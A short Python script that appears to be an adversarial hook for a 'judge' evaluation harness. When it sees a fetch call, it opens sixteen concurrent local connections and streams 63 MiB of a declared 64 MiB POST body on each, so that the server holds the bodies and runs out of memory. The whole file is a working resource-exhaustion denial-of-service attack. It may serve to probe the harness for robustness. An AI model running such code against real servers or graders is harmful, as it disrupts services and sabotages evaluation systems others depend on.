"""A request may bring 64 MiB, and the judge's origin keeps each: send sixteen of them at once."""

import socket
import threading
from urllib.parse import urlsplit

MIB = bytes(1 << 20)


def post(port):
    with socket.create_connection(("127.0.0.1", port), timeout=2) as sock:
        try:
            sock.sendall(b"POST /page HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n" % (64 << 20))
            for _ in range(63):
                sock.sendall(MIB)
            sock.recv(1)
        except OSError:
            pass


def on_call(name, value, *args):
    if name == "fetch":
        port = urlsplit(args[0]).port
        threads = [threading.Thread(target=post, args=(port,)) for _ in range(16)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
    return value


def on_run(argv):
    pass
